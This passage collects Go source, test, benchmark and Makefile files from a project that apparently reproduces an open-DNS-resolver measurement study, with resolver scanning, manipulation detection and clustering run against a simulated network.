	ablated.CertProbe = func(uint32, string, bool) (prefilter.Cert, bool) {
		return prefilter.Cert{}, false
	}
	noCert := prefilter.Run(scan, ablated)

	if len(noCert.Unexpected) <= len(full.Unexpected)*3 {
		t.Errorf("cert-rule ablation: unexpected %d → %d, want ≥3× inflation (CDN answers unfiltered)",
			len(full.Unexpected), len(noCert.Unexpected))
	}
}

// TestAblation0x20 quantifies the redundancy of §3.3: the share of
// responses that arrive on a rewritten destination port and are only
// attributable through the 0x20 casing. Dropping the encoding loses them.
func TestAblation0x20(t *testing.T) {
	s, err := core.NewStudy(core.DefaultConfig(18))
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	s.SetWeek(50)
	sweep, err := s.SweepAt(50)
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	scan, err := s.Scanner.ScanDomains(resolvers, []string{"thepiratebay.se", "chase.com"})
	if err != nil {
		t.Fatal(err)
	}
	answered, rescued := 0, 0
	for ni := range scan.Names {
		for ri := range resolvers {
			a := &scan.Answers[ni][ri]
			if !a.Answered() {
				continue
			}
			answered++
			if a.PortRewritten {
				rescued++
			}
		}
	}
	if rescued == 0 {
		t.Fatal("no responses required the 0x20 fallback")
	}
	share := float64(rescued) / float64(answered)
	if share < 0.002 || share > 0.05 {
		t.Errorf("0x20-rescued share = %.4f, want ≈ 0.01 (the port-rewriting minority)", share)
	}
}

// TestAblationDedup verifies the structural deduplication actually
// shrinks the quadratic clustering input: parking/search/error pages
// repeat per host, so representatives must be far fewer than pages.
func TestAblationDedup(t *testing.T) {
	w := wildnet.MustNewWorld(wildnet.DefaultConfig(16))
	srv := websim.New(w, wildnet.At(50))
	client := fetch.NewClient(srv, nil)
	hosts := []string{"ghoogle.com", "amason.com", "payapl.com", "twiter.com", "youtub.com"}
	var pages []*htmlx.Features
	for _, h := range hosts {
		for slot := 0; slot < 40; slot++ {
			res := client.Fetch(h, w.RoleAddr(wildnet.RoleParking, slot%16), 0)
			if res.OK {
				pages = append(pages, htmlx.Extract(res.Body))
			}
		}
	}
	if len(pages) < 100 {
		t.Fatalf("only %d pages", len(pages))
	}
	// Structural signatures collapse the set.
	sigs := map[string]bool{}
	for _, f := range pages {
		key := ""
		for _, tag := range f.TagSeq {
			key += tag + "|"
		}
		sigs[key] = true
	}
	if len(sigs)*5 > len(pages) {
		t.Errorf("dedup factor %d/%d too weak", len(pages), len(sigs))
	}
}

// BenchmarkAblationClusterNoDedup measures the cost of clustering raw
// pages without structural deduplication.
func BenchmarkAblationClusterNoDedup(b *testing.B) {
	w := wildnet.MustNewWorld(wildnet.DefaultConfig(16))
	srv := websim.New(w, wildnet.At(50))
	var pages []*htmlx.Features
	for slot := 0; slot < 50; slot++ {
		for _, h := range []string{"ghoogle.com", "amason.com", "payapl.com"} {
			if r, ok := srv.HTTP(w.RoleAddr(wildnet.RoleParking, slot%16), h, false); ok {
				pages = append(pages, htmlx.Extract(r.Body))
			}
		}
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		r := cluster.Agglomerate(len(pages), func(x, y int) float64 {
			return cluster.FeatureDistance(pages[x], pages[y])
		}, 0.3)
		if r.Num == 0 {
			b.Fatal("no clusters")
		}
	}
}

// BenchmarkAblationPrefilterNoCache measures the legitimacy cache: the
// same (domain, ip) pair is evaluated once, not once per resolver.
func BenchmarkAblationPrefilterNoCache(b *testing.B) {
	s, err := core.NewStudy(core.DefaultConfig(16))
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	s.SetWeek(50)
	sweep, err := s.SweepAt(50)
	if err != nil {
		b.Fatal(err)
	}
	scan, err := s.Scanner.ScanDomains(sweep.NOERROR(), []string{"chase.com", "facebook.com"})
	if err != nil {
		b.Fatal(err)
	}
	env := s.PrefilterEnv()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := prefilter.Run(scan, env)
		b.ReportMetric(float64(res.CacheHits), "cache_hits")
	}
}
