# Developer entry points for the Going Wild reproduction.

GO ?= go

.PHONY: all build vet lint lint-escape test test-short race chaos crash metrics-smoke stream-smoke serve-smoke fuzz-smoke bench bench-quick bench-all report markdown examples clean

all: build vet lint test

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

# Project-specific static analysis (internal/lint): the six syntactic
# rules (determinism, maporder, gohygiene, errdrop, ctxhygiene,
# sleepcall) and the five flow-sensitive ones (lockcheck, atomichygiene,
# hotpath, taintflow, fsynccheck). Exits nonzero on any finding.
lint:
	$(GO) run ./cmd/wildlint ./...

# Escape-analysis cross-check for the hotpath rule: rebuild the packages
# carrying //lint:hotpath annotations with the compiler's -m diagnostics
# (-a defeats the build cache, which would otherwise swallow them) and
# fail if the compiler reports a heap allocation inside an annotated
# function. The static rule and the compiler must agree.
lint-escape:
	$(GO) build -a -gcflags=-m ./internal/scanner ./internal/dnswire ./internal/lfsr 2> /tmp/wildlint_escape.log || (cat /tmp/wildlint_escape.log; exit 1)
	$(GO) run ./cmd/wildlint -escape-log /tmp/wildlint_escape.log ./internal/scanner ./internal/dnswire ./internal/lfsr

test:
	$(GO) test ./...

test-short:
	$(GO) test -short ./...

# Race-detector pass over the concurrent subsystems (the stress tests in
# scanner and wildnet exist for this target).
race:
	$(GO) test -race ./internal/scanner ./internal/wildnet ./internal/authdns ./internal/pipeline ./internal/metrics ./internal/resolvesvc ./internal/debughttp .

# Chaos matrix: the full pipeline under every fault profile (clean,
# lossy, hostile, flaky), checking determinism across runs and
# GOMAXPROCS and sweep completeness against planted ground truth.
chaos:
	$(GO) test -run TestChaosMatrix -count=1 -v ./internal/core

# Crash-injection matrix: SIGKILL a real goingwild run at seeded-random
# points, resume from its checkpoint directory (flipping GOMAXPROCS
# across attempts), and require byte-identical stdout versus an
# uninterrupted run — plus torn-checkpoint fallback and the two-phase
# SIGINT contract. Forks and kills real processes; takes minutes.
crash:
	CRASHTEST=1 $(GO) test -run 'TestCrashResumeByteIdentity|TestTornCheckpointFallsBack|TestInterruptCheckpointsAndResumes' -count=1 -v -timeout 15m ./internal/crashtest

# Metrics side-channel guard: an order-16 report must print byte-identical
# stdout with and without -metrics, and the snapshot it writes must be
# non-empty. This is the executable form of the contract that attaching
# observability can never perturb results.
metrics-smoke:
	$(GO) build -o /tmp/wildreport_metrics ./cmd/wildreport
	/tmp/wildreport_metrics -order 16 -weeks 8 -week 7 > /tmp/wr_nometrics.txt
	/tmp/wildreport_metrics -order 16 -weeks 8 -week 7 -metrics /tmp/wr_metrics.json > /tmp/wr_withmetrics.txt
	diff /tmp/wr_nometrics.txt /tmp/wr_withmetrics.txt
	test -s /tmp/wr_metrics.json

# Streaming epoch guard: the weekly series run incrementally via
# -epochs (per-week delta batches applied live) must print stdout
# byte-identical to the batch -weeks run. This is the executable form
# of the contract that streaming changes when results appear, never
# what they are.
stream-smoke:
	$(GO) build -o /tmp/wildreport_stream ./cmd/wildreport
	/tmp/wildreport_stream -order 16 -weeks 6 -week 5 > /tmp/wr_batch.txt
	/tmp/wildreport_stream -order 16 -epochs 6 -week 5 -progress > /tmp/wr_stream.txt 2>/dev/null
	diff /tmp/wr_batch.txt /tmp/wr_stream.txt

# Service smoke: run wildsvc's built-in self-check — three epochs at
# order 16, then query the HTTP API for a known responder and a known
# miss over a real socket, assert the JSON shape, and require the
# hit/miss/coalesced counters to have moved. Exits nonzero on any
# assertion failure; the last stdout line is "wildsvc smoke: PASS".
serve-smoke:
	$(GO) run ./cmd/wildsvc -smoke

# A few seconds of coverage-guided fuzzing per wire-format fuzz target.
# `go test -fuzz` accepts one target per invocation, hence six runs.
fuzz-smoke:
	$(GO) test -fuzz=FuzzUnpack -fuzztime=5s ./internal/dnswire
	$(GO) test -fuzz=FuzzView -fuzztime=5s ./internal/dnswire
	$(GO) test -fuzz=FuzzDecodeTargetQName -fuzztime=5s ./internal/dnswire
	$(GO) test -fuzz=FuzzHandleDNS -fuzztime=5s ./internal/wildnet
	$(GO) test -fuzz=FuzzParse -fuzztime=5s ./internal/zonefile
	$(GO) test -fuzz=FuzzCheckpointDecode -fuzztime=5s ./internal/checkpoint

# Hot-path benchmark: order-20 sweep throughput/allocations and the
# clustering scaling curve, written to BENCH_scan.json (the committed
# copy is the performance baseline).
bench:
	$(GO) run ./cmd/benchscan -out BENCH_scan.json

# CI smoke variant: order-16 sweep, smaller cluster sizes, seconds not
# minutes. Does not overwrite the committed baseline. Gates on the
# report shape — all four shard-table rows (M=1,2,4,8), the best-M
# pick, and both dispatch modes must be present — but not on absolute
# throughput, which would flake on shared CI runners.
bench-quick:
	$(GO) run ./cmd/benchscan -quick -out /tmp/bench_quick.json
	test "$$(grep -c '"shards":' /tmp/bench_quick.json)" = "4"
	grep -q '"best_shards":' /tmp/bench_quick.json
	test "$$(grep -c '"mode":' /tmp/bench_quick.json)" = "2"
	grep -q '"delta_records_per_sec":' /tmp/bench_quick.json
	$(GO) run ./cmd/wildsvc -loadgen -epochs 4 -loadgen-lookups 200000 -bench-out /tmp/bench_serve_quick.json 2>/dev/null
	grep -q '"lookups_per_sec":' /tmp/bench_serve_quick.json
	grep -q '"p99_ns":' /tmp/bench_serve_quick.json
	grep -q '"hits":' /tmp/bench_serve_quick.json
	grep -q '"coalesced":' /tmp/bench_serve_quick.json
	grep -q '"probes":' /tmp/bench_serve_quick.json

# One iteration of every table/figure benchmark.
bench-all:
	$(GO) test -bench=. -benchmem -benchtime=1x .

# Full text report of every table and figure (order 17, quick).
report:
	$(GO) run ./cmd/wildreport -order 17 -weeks 10 -week 9

# The paper-vs-measured markdown table at publication scale (slow).
markdown:
	$(GO) run ./cmd/wildreport -order 18 -weeks 55 -week 50 -markdown

examples:
	$(GO) run ./examples/quickstart
	$(GO) run ./examples/fingerprint
	$(GO) run ./examples/dnssec

clean:
	$(GO) clean ./...
