# Developer entry points for the Going Wild reproduction.

GO ?= go

.PHONY: all build vet test test-short bench report markdown examples clean

all: build vet test

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

test-short:
	$(GO) test -short ./...

# One iteration of every table/figure benchmark.
bench:
	$(GO) test -bench=. -benchmem -benchtime=1x .

# Full text report of every table and figure (order 17, quick).
report:
	$(GO) run ./cmd/wildreport -order 17 -weeks 10 -week 9

# The paper-vs-measured markdown table at publication scale (slow).
markdown:
	$(GO) run ./cmd/wildreport -order 18 -weeks 55 -week 50 -markdown

examples:
	$(GO) run ./examples/quickstart
	$(GO) run ./examples/fingerprint
	$(GO) run ./examples/dnssec

clean:
	$(GO) clean ./...
