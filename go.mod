module goingwild

go 1.22
