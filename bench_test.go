// Benchmarks regenerating every table and figure of the paper (see
// DESIGN.md's per-experiment index). Each benchmark runs the full
// measurement for its artifact against a scaled-down world; custom
// metrics report the domain quantities (probes/s, resolvers found) next
// to the usual ns/op.
package goingwild

import (
	"context"
	"fmt"
	"testing"

	"goingwild/internal/analysis"
	"goingwild/internal/churn"
	"goingwild/internal/cluster"
	"goingwild/internal/core"
	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/geodb"
	"goingwild/internal/htmlx"
	"goingwild/internal/lfsr"
	"goingwild/internal/websim"
	"goingwild/internal/wildnet"
)

func benchStudy(b *testing.B, order uint) *core.Study {
	b.Helper()
	s, err := core.NewStudy(core.DefaultConfig(order))
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	return s
}

// BenchmarkFigure1WeeklyScans regenerates E1: the weekly responder series
// with its NOERROR/REFUSED/SERVFAIL breakdown.
func BenchmarkFigure1WeeklyScans(b *testing.B) {
	s := benchStudy(b, 16)
	cfg := churn.StudyConfig{Order: 16, Seed: 42, Weeks: 4, Blacklist: s.World.ScanBlacklist()}
	loc := func(u uint32) (string, geodb.RIR) {
		l := s.World.Geo().LookupU32(u)
		return l.Country, l.RIR
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		series, err := churn.RunWeekly(context.Background(), s.Scanner, s.Transport, loc, cfg)
		if err != nil {
			b.Fatal(err)
		}
		if series.First().Total == 0 {
			b.Fatal("empty scan")
		}
		b.ReportMetric(float64(series.First().Total), "responders")
	}
}

// BenchmarkTable1CountryFluctuation regenerates E2/E3: first and last
// weekly scans grouped by country and registry.
func BenchmarkTable1CountryFluctuation(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		series := endpointSeries(b, s)
		rows := series.CountryFluctuation(10)
		if len(rows) == 0 {
			b.Fatal("no rows")
		}
	}
}

// BenchmarkTable2RIRFluctuation regenerates E3.
func BenchmarkTable2RIRFluctuation(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		series := endpointSeries(b, s)
		if len(series.RIRFluctuation()) != 5 {
			b.Fatal("missing registries")
		}
	}
}

func endpointSeries(b *testing.B, s *core.Study) *churn.Series {
	b.Helper()
	series := &churn.Series{}
	for _, week := range []int{0, 55} {
		res, err := s.SweepAt(week)
		if err != nil {
			b.Fatal(err)
		}
		obs := churn.WeekObservation{Week: week, Total: res.Total(),
			ByRCode: res.ByRCode, ByCountry: map[string]int{}, ByRIR: map[geodb.RIR]int{}}
		for _, r := range res.Responders {
			l := s.World.Geo().LookupU32(r.Addr)
			obs.ByCountry[l.Country]++
			obs.ByRIR[l.RIR]++
		}
		series.Weeks = append(series.Weeks, obs)
	}
	return series
}

// BenchmarkTable3ChaosFingerprint regenerates E4: the CHAOS software
// survey.
func BenchmarkTable3ChaosFingerprint(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		survey, n, err := s.RunChaos(46)
		if err != nil {
			b.Fatal(err)
		}
		if survey.Responded == 0 {
			b.Fatal("no responders")
		}
		b.ReportMetric(float64(n), "resolvers")
		b.ReportMetric(100*survey.VersionedShare(), "versioned_pct")
	}
}

// BenchmarkTable4DeviceFingerprint regenerates E5: banner grabbing plus
// the regex device database.
func BenchmarkTable4DeviceFingerprint(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		survey, err := s.RunDevices(46)
		if err != nil {
			b.Fatal(err)
		}
		if survey.Responsive == 0 {
			b.Fatal("no banners")
		}
		b.ReportMetric(100*float64(survey.Responsive)/float64(survey.Scanned), "tcp_pct")
	}
}

// BenchmarkFigure2IPChurn regenerates E6: the cohort survival curve.
func BenchmarkFigure2IPChurn(b *testing.B) {
	s := benchStudy(b, 16)
	for i := 0; i < b.N; i++ {
		study, err := s.RunCohortStudy(8)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(100*study.Day1Survival, "day1_pct")
	}
}

// BenchmarkUtilizationSnooping regenerates E7: 36 hourly probes of 15
// TLDs across the population.
func BenchmarkUtilizationSnooping(b *testing.B) {
	s := benchStudy(b, 15)
	for i := 0; i < b.N; i++ {
		res, err := s.RunUtilization(43)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(100*float64(res.Responded)/float64(res.Scanned), "responded_pct")
	}
}

// BenchmarkPrefiltering regenerates E8: a domain-set scan plus the
// three-rule prefilter.
func BenchmarkPrefiltering(b *testing.B) {
	s := benchStudy(b, 16)
	for i := 0; i < b.N; i++ {
		res, err := s.RunDomainStudy(50, []domains.Category{domains.Banking, domains.NX})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(len(res.Pre.Unexpected)), "unexpected_tuples")
	}
}

// BenchmarkTable5Classification regenerates E9: acquisition, clustering,
// and labeling over several categories.
func BenchmarkTable5Classification(b *testing.B) {
	s := benchStudy(b, 16)
	for i := 0; i < b.N; i++ {
		res, err := s.RunDomainStudy(50, []domains.Category{
			domains.Adult, domains.Gambling, domains.NX, domains.Banking,
		})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(res.Report.Clusters), "clusters")
	}
}

// BenchmarkFigure4CensorshipGeo regenerates E10: the censorship geography
// of the blocked trio.
func BenchmarkFigure4CensorshipGeo(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		res, err := s.RunDomainStudy(50, []domains.Category{domains.Alexa})
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(100*res.Fig4.Unexpected["CN"], "cn_pct")
	}
}

// BenchmarkCaseStudies regenerates E11: the §4.3 detectors.
func BenchmarkCaseStudies(b *testing.B) {
	s := benchStudy(b, 16)
	for i := 0; i < b.N; i++ {
		res, err := s.RunDomainStudy(50, []domains.Category{
			domains.Ads, domains.Banking, domains.MX, domains.Misc,
		})
		if err != nil {
			b.Fatal(err)
		}
		cs := res.Report.Cases
		b.ReportMetric(float64(cs.ProxyPlainResolvers), "proxy_resolvers")
	}
}

// BenchmarkFullPipeline regenerates E12: the complete Figure-3 chain over
// all 13 categories.
func BenchmarkFullPipeline(b *testing.B) {
	s := benchStudy(b, 16)
	for i := 0; i < b.N; i++ {
		res, err := s.RunDomainStudy(50, nil)
		if err != nil {
			b.Fatal(err)
		}
		if res.Report.PairCount == 0 {
			b.Fatal("no pairs")
		}
		b.ReportMetric(float64(res.StageTrace[2].Count), "probes")
	}
}

// BenchmarkScanVerification regenerates E13: the secondary-vantage
// verification scan.
func BenchmarkScanVerification(b *testing.B) {
	s := benchStudy(b, 17)
	for i := 0; i < b.N; i++ {
		v, err := s.RunVerification(50)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(float64(v.OnlySecondary), "only_secondary")
	}
}

// --- Component microbenchmarks ---------------------------------------

// BenchmarkSweepThroughput measures raw probe throughput of the scan
// engine over the in-memory transport.
func BenchmarkSweepThroughput(b *testing.B) {
	s := benchStudy(b, 16)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := s.Scanner.Sweep(16, uint32(i+1), s.World.ScanBlacklist())
		if err != nil {
			b.Fatal(err)
		}
		b.SetBytes(int64(res.Probed))
	}
}

// BenchmarkDNSPackUnpack measures the wire codec round trip.
func BenchmarkDNSPackUnpack(b *testing.B) {
	q := dnswire.NewQuery(7, "r1.c0a80101.scan.dnsstudy.example.edu", dnswire.TypeA, dnswire.ClassIN)
	resp := dnswire.NewResponse(q, dnswire.RCodeNoError)
	resp.AddAnswer(q.Questions[0].Name, dnswire.ClassIN, 300, dnswire.A{Addr: lfsr.U32ToAddr(0x01020304)})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		wire, err := resp.PackBytes()
		if err != nil {
			b.Fatal(err)
		}
		if _, err := dnswire.Unpack(wire); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDNSViewDecode measures the zero-allocation receive-side
// decoder against the same wire bytes BenchmarkDNSPackUnpack round-trips.
func BenchmarkDNSViewDecode(b *testing.B) {
	q := dnswire.NewQuery(7, "r1.c0a80101.scan.dnsstudy.example.edu", dnswire.TypeA, dnswire.ClassIN)
	resp := dnswire.NewResponse(q, dnswire.RCodeNoError)
	resp.AddAnswer(q.Questions[0].Name, dnswire.ClassIN, 300, dnswire.A{Addr: lfsr.U32ToAddr(0x01020304)})
	wire, err := resp.PackBytes()
	if err != nil {
		b.Fatal(err)
	}
	v := dnswire.GetView()
	defer dnswire.PutView(v)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if err := v.Reset(wire); err != nil {
			b.Fatal(err)
		}
		if !v.QR() || !v.HasAnswerA() {
			b.Fatal("decode lost the answer")
		}
	}
}

// BenchmarkLFSRPermutation measures the target generator.
func BenchmarkLFSRPermutation(b *testing.B) {
	bl := lfsr.DefaultReserved()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		g, err := lfsr.NewTargetGenerator(20, uint32(i+1), bl)
		if err != nil {
			b.Fatal(err)
		}
		n := 0
		for {
			if _, ok := g.NextU32(); !ok {
				break
			}
			n++
		}
		b.SetBytes(int64(n))
	}
}

// BenchmarkFeatureDistance measures the seven-feature page distance.
func BenchmarkFeatureDistance(b *testing.B) {
	w := wildnet.MustNewWorld(wildnet.DefaultConfig(16))
	srv := websim.New(w, wildnet.At(50))
	r1, _ := srv.HTTP(w.RoleAddr(wildnet.RoleParking, 1), "ghoogle.com", false)
	r2, _ := srv.HTTP(w.RoleAddr(wildnet.RoleSearchPage, 1), "ghoogle.com", false)
	f1, f2 := htmlx.Extract(r1.Body), htmlx.Extract(r2.Body)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if d := cluster.FeatureDistance(f1, f2); d <= 0 {
			b.Fatal("degenerate distance")
		}
	}
}

// BenchmarkAgglomerate measures hierarchical clustering at the
// representative counts the pipeline feeds it. The sizes double so the
// scaling curve is visible: the nearest-neighbor-chain implementation
// should show ~4x per doubling (quadratic), where the old closest-pair
// scan showed ~6-8x (cubic) at these n.
func BenchmarkAgglomerate(b *testing.B) {
	dist := func(i, j int) float64 {
		if i%7 == j%7 {
			return 0.05
		}
		return 0.8
	}
	for _, n := range []int{200, 400, 800} {
		b.Run(fmt.Sprintf("n=%d", n), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				r := cluster.Agglomerate(n, dist, 0.4)
				if r.Num != 7 {
					b.Fatalf("clusters = %d", r.Num)
				}
			}
			b.SetBytes(int64(n))
		})
	}
}

// BenchmarkHTMLExtract measures feature extraction.
func BenchmarkHTMLExtract(b *testing.B) {
	w := wildnet.MustNewWorld(wildnet.DefaultConfig(16))
	srv := websim.New(w, wildnet.At(50))
	legit, _ := w.LegitAddrs("chase.com", "US")
	r, _ := srv.HTTP(legit[0], "chase.com", false)
	b.SetBytes(int64(len(r.Body)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if f := htmlx.Extract(r.Body); len(f.TagSeq) == 0 {
			b.Fatal("no tags")
		}
	}
}

// BenchmarkRenderReports measures the table renderers (sanity: rendering
// must be negligible next to measurement).
func BenchmarkRenderReports(b *testing.B) {
	s := benchStudy(b, 16)
	survey, _, err := s.RunChaos(46)
	if err != nil {
		b.Fatal(err)
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if out := analysis.RenderTable3(survey, 10); len(out) == 0 {
			b.Fatal("empty render")
		}
	}
}
