package netalyzr

import (
	"testing"

	"goingwild/internal/dnswire"
	"goingwild/internal/wildnet"
)

func testWorld(t *testing.T) *wildnet.World {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(17))
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func testConfig(w *wildnet.World, sessions int) Config {
	return Config{
		Sessions:     sessions,
		Seed:         99,
		Week:         50,
		ProbeNX:      "ghoogle.com",
		ProbeDomains: []string{"chase.com"},
		TrustedResolve: func(name string) ([]uint32, dnswire.RCode) {
			return w.LegitAddrs(name, "DE")
		},
		SameNeighborhood: func(a, b uint32) bool { return w.ASNOf(a) == w.ASNOf(b) },
	}
}

func TestClosedResolversServeOnlyTheirBlock(t *testing.T) {
	w := testWorld(t)
	client := uint32(5000)
	resolver := w.ClosedResolverOf(client)
	q := dnswire.NewQuery(1, "chase.com", dnswire.TypeA, dnswire.ClassIN)
	resps := w.HandleClientDNS(client, q, wildnet.At(50))
	if len(resps) == 0 {
		t.Fatal("in-network client got no answer")
	}
	if resps[0].Src != resolver {
		t.Errorf("answer from %d, want closed resolver %d", resps[0].Src, resolver)
	}
	if resps[0].Msg.Header.RCode == dnswire.RCodeRefused {
		t.Error("in-network client refused")
	}
}

func TestSessionsFindMonetizers(t *testing.T) {
	w := testWorld(t)
	study := Run(w, testConfig(w, 400))
	if len(study.Sessions) != 400 {
		t.Fatalf("sessions = %d", len(study.Sessions))
	}
	// ~11% of ISP resolvers monetize NXDOMAIN traffic; with 400
	// sessions the count must be clearly nonzero and clearly minority.
	if study.Monetizers == 0 {
		t.Error("no NXDOMAIN monetization observed in-network")
	}
	if study.Monetizers > len(study.Sessions)/2 {
		t.Errorf("monetizers = %d of %d, implausibly many", study.Monetizers, len(study.Sessions))
	}
	// Most sessions see honest answers for an ordinary domain.
	if study.Manipul > len(study.Sessions)/2 {
		t.Errorf("manipulated = %d of %d, implausibly many", study.Manipul, len(study.Sessions))
	}
}

func TestSessionsDeterministic(t *testing.T) {
	w := testWorld(t)
	a := Run(w, testConfig(w, 50))
	b := Run(w, testConfig(w, 50))
	if a.Monetizers != b.Monetizers || a.Manipul != b.Manipul {
		t.Error("study not deterministic")
	}
	for i := range a.Sessions {
		if a.Sessions[i] != b.Sessions[i] {
			t.Fatalf("session %d differs", i)
		}
	}
}
