// Package netalyzr implements the complementary vantage the paper's
// related-work section credits to Weaver et al.: instead of scanning open
// resolvers from outside, volunteer *client sessions inside access
// networks* exercise their ISP's (closed) resolver and report what its
// answers look like. §6 observes that combining both approaches
// "presumably increases the detection of forged DNS resolutions" — this
// package is that combination.
package netalyzr

import (
	"goingwild/internal/dnswire"
	"goingwild/internal/prand"
	"goingwild/internal/wildnet"
)

// SessionResult is one volunteer session's findings.
type SessionResult struct {
	Client   uint32
	Resolver uint32
	Country  string
	// NXMonetized reports NXDOMAIN answers rewritten into addresses
	// (DNS error monetization, Weaver et al.'s headline finding).
	NXMonetized bool
	// Manipulated reports at least one existing domain resolved to an
	// address outside the trusted answer's AS neighborhood.
	Manipulated bool
	// Refused marks sessions whose resolver rejected the client.
	Refused bool
}

// Study aggregates sessions.
type Study struct {
	Sessions   []SessionResult
	Monetizers int
	Manipul    int
	Refusals   int
}

// Config parameterizes the volunteer study.
type Config struct {
	// Sessions is the number of simulated volunteer clients.
	Sessions int
	// Seed draws the client sample.
	Seed uint64
	// Week positions the sessions on the study timeline.
	Week int
	// ProbeNX is the nonexistent name used for monetization checks.
	ProbeNX string
	// ProbeDomains are existing names checked for manipulation.
	ProbeDomains []string
	// TrustedResolve supplies the reference answers (the session's
	// equivalent of Netalyzr's backend checks).
	TrustedResolve func(name string) ([]uint32, dnswire.RCode)
	// SameNeighborhood reports whether an answer address is an
	// acceptable variant of a trusted one (same AS).
	SameNeighborhood func(a, b uint32) bool
}

// Run simulates volunteer sessions against their in-network resolvers.
func Run(w *wildnet.World, cfg Config) *Study {
	study := &Study{}
	src := prand.NewSource(cfg.Seed ^ 0x4E7A)
	infraBase, _ := w.InfraRange()
	for len(study.Sessions) < cfg.Sessions {
		client := w.Mask(uint32(src.Next()))
		if client >= infraBase {
			continue // no volunteers inside measurement infrastructure
		}
		res := runSession(w, client, cfg)
		study.Sessions = append(study.Sessions, res)
		if res.Refused {
			study.Refusals++
			continue
		}
		if res.NXMonetized {
			study.Monetizers++
		}
		if res.Manipulated {
			study.Manipul++
		}
	}
	return study
}

func runSession(w *wildnet.World, client uint32, cfg Config) SessionResult {
	t := wildnet.Time{Week: cfg.Week}
	res := SessionResult{
		Client:   client,
		Resolver: w.ClosedResolverOf(client),
		Country:  w.Geo().LookupU32(client).Country,
	}
	ask := func(name string) (*dnswire.Message, bool) {
		q := dnswire.NewQuery(uint16(prand.Hash(uint64(client), hash(name))), name, dnswire.TypeA, dnswire.ClassIN)
		resps := w.HandleClientDNS(client, q, t)
		if len(resps) == 0 {
			return nil, false
		}
		return resps[0].Msg, true
	}

	// NXDOMAIN monetization check.
	if m, ok := ask(cfg.ProbeNX); ok {
		if m.Header.RCode == dnswire.RCodeRefused {
			res.Refused = true
			return res
		}
		if m.Header.RCode == dnswire.RCodeNoError && len(m.AnswerAddrs()) > 0 {
			res.NXMonetized = true
		}
	}

	// Manipulation check against trusted answers.
	for _, name := range cfg.ProbeDomains {
		m, ok := ask(name)
		if !ok || m.Header.RCode != dnswire.RCodeNoError {
			continue
		}
		trusted, rc := cfg.TrustedResolve(name)
		if rc != dnswire.RCodeNoError || len(trusted) == 0 {
			continue
		}
		for _, a := range m.AnswerAddrs() {
			b := a.As4()
			u := uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
			okAddr := false
			for _, tr := range trusted {
				if u == tr || (cfg.SameNeighborhood != nil && cfg.SameNeighborhood(u, tr)) {
					okAddr = true
					break
				}
			}
			if !okAddr {
				res.Manipulated = true
			}
		}
	}
	return res
}

func hash(s string) uint64 {
	h := uint64(0xCBF29CE484222325)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 0x100000001B3
	}
	return h
}
