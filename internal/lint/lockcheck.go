package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// checkLockCheck is the flow-sensitive mutex discipline rule. The sharded
// collectors (scanner/shards.go), the metrics registry, and the future
// sharded result store all follow the same pattern — a short critical
// section per stripe — and the bug that pattern invites is exactly the
// one a syntactic matcher cannot see: an early return between Lock and
// Unlock on one branch. Over each function's CFG the rule checks, per
// lock path:
//
//   - every path from a Lock() to an exit passes an Unlock() or has a
//     defer Unlock() registered (a panic terminates its path and is
//     exempt, matching the convention that panics tear the process down);
//   - no path re-Locks a lock it already holds (non-reentrant mutexes
//     self-deadlock) and no path Unlocks a lock it already released;
//   - an explicit Unlock on a path that also registered defer Unlock
//     double-releases at return;
//
// and, structurally, that no sync.Mutex/RWMutex travels by value: value
// parameters, value receivers, value returns, copy assignments, and
// range-over-values of lock-bearing types all silently fork the lock
// state (go vet's copylocks catches most of these; this rule keeps the
// invariant enforced even where vet is not run).
//
// Locks are named by access path (exprKey): s.mu, sh.mu, genMu. A path
// containing a computed index or a call is untrackable and is skipped —
// coarse, but exactly the shape the striped collectors avoid by binding
// the stripe to a local first.
func checkLockCheck(p *Package, cfg *Config, emit func(token.Pos, string, string)) {
	for _, fs := range funcScopes(p) {
		checkLockFlow(p, fs, emit)
	}
	checkLockCopies(p, emit)
}

// lockOp classifies one Lock/Unlock call site.
type lockOp struct {
	key    string
	text   string // display form of the receiver path
	read   bool   // RLock/RUnlock
	lock   bool   // Lock/RLock vs Unlock/RUnlock
	defer_ bool   // registered via defer
	pos    token.Pos
}

